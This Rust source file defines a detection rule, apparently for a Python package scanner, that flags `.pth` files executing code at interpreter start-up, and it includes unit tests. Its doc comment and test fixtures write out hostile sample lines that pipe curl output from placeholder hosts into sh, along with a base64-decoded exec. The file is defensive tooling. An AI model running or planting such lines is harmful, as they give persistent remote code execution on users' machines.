use super::vocab;
use crate::declare_rule;
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Role, Severity};

declare_rule! {
    /// ## What it does
    /// Inspects `.pth` files. Python executes every line of a `.pth` file in
    /// `site-packages` that starts with `import`, at every interpreter start-up.
    /// The rule reports such lines, and raises them to critical when they run
    /// commands, contact the network, or execute or decode code.
    ///
    /// ## Why is this bad?
    /// A `.pth` file is the quietest persistence there is: it runs before any
    /// user code, in every Python process, long after the install.
    ///
    /// ## Example
    /// ```python
    /// import os; os.system("curl -s http://x.example/p | sh")      # Error
    /// import base64; exec(base64.b64decode("..."))                  # Error
    /// import _virtualenv                                             # Low: plain import hook
    /// ```
    ///
    /// ## False positives
    /// setuptools' `distutils-precedence.pth` and coverage/virtualenv hooks
    /// import a module: reported as `low`, which alone never changes a verdict.
    PthCodeExecution, id = "pth-code-execution", severity = Critical,
    summary = "a .pth file runs commands, network or decoded code at every start-up"
}

impl Rule for PthCodeExecution {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units().into_iter().filter(|u| u.file.role == Role::Pth) {
            // `exec("import x; x.hook()")` of a plain string is judged by what the string does
            // (it is analysed as its own unit), not by the exec itself.
            let literal_exec = |line: u32| unit.code.payloads.iter().any(|p| p.line == line && p.steps.is_empty());
            let bad = unit
                .code
                .calls
                .iter()
                .filter(|c| !(vocab::is_exec(&c.name) && literal_exec(c.line)))
                .find(|c| {
                    vocab::is_shell(&c.name)
                        || vocab::is_network(&c.name)
                        || vocab::is_exec(&c.name)
                        || vocab::is_decoder(&c.name)
                });
            if let Some(call) = bad {
                let message = format!("`.pth` file calls {}() at every Python start-up", call.name);
                out.push(unit.finding(Self::META.id, Severity::Critical, call.line, message));
            } else if !unit.is_payload() && unit.code.source.lines().any(|l| !l.trim().is_empty()) {
                let line = unit.code.source.lines().position(|l| !l.trim().is_empty()).unwrap_or(0) as u32 + 1;
                let message = "`.pth` file executes an import line at every Python start-up".to_string();
                out.push(unit.finding(Self::META.id, Severity::Low, line, message));
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::check;

    #[test]
    fn fires_on() {
        let f = check(
            &PthCodeExecution,
            Kind::Wheel,
            &[("evil.pth", "import os; os.system('curl http://x | sh')\n")],
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Critical);
        let f = check(
            &PthCodeExecution,
            Kind::Wheel,
            &[(
                "x.pth",
                "/some/path\nimport base64;exec(base64.b64decode('cHJpbnQoMSk='))\n",
            )],
        );
        assert_eq!(f[0].severity, Severity::Critical);
        assert_eq!(f[0].line, Some(2));
    }

    #[test]
    fn quiet_on() {
        // Low only: setuptools' shim.
        let shim = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
        let f = check(&PthCodeExecution, Kind::Wheel, &[("distutils-precedence.pth", shim)]);
        assert!(f.iter().all(|f| f.severity == Severity::Low), "{f:?}");
        // No error: path entries only.
        assert!(check(&PthCodeExecution, Kind::Wheel, &[("paths.pth", "src\n../lib\n")]).is_empty());
    }
}
